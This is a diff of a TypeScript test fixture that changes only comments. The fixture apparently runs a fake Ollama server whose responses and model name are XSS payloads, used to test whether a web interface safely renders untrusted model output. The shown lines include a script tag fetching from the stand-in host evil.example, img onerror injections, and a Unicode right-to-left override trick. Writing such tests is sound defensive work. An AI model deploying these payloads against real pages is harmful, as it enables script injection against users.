@@ -3,7 +3,7 @@ import type { AddressInfo } from 'node:net'
 
 const ELSEWHERE = 'https://evil.example'
 
-/** What a model, or whoever has taught it, may say to get out of the page. One a line. */
+/** Attacks that a model's output may contain, one per line. */
 export const CORPUS = [
   `<script>fetch('${ELSEWHERE}/script')</script>`,
   `<img src=${ELSEWHERE}/img onerror=document.title='owned'>`,
@@ -32,7 +32,7 @@ export const CORPUS = [
   `${'['.repeat(400)}${'*'.repeat(400)}`,
 ].join('\n\n')
 
-/** Which may be a model's name, too: whoever publishes one chooses it. */
+/** A model's publisher chooses its name, so a name may be an attack too. */
 export const MODEL = `<img src=x onerror=document.title='owned'>\u202egpj:${'long'.repeat(60)}`
 
 const CALL = {
@@ -61,7 +61,7 @@ const model = {
 const line = (text: object) =>
   `${JSON.stringify({ model: MODEL, created_at: '2026-01-01T00:00:00Z', ...text })}\n`
 
-/** Pieces that cut every mark in two. */
+/** Pieces that split every mark. */
 const pieces = CORPUS.match(/[^]{1,37}/g) ?? []
 
 const ANSWERS: Readonly<Record<string, () => string>> = {
@@ -106,7 +106,7 @@ const ANSWERS: Readonly<Record<string, () => string>> = {
     }),
 }
 
-/** An Ollama whose every word is an attack on whoever reads it. */
+/** An Ollama whose every text is an attack on the page. */
 export async function startHostileHome(): Promise<{ url: string; stop: () => void }> {
   const server = createServer((request, response) => {
     request.resume()
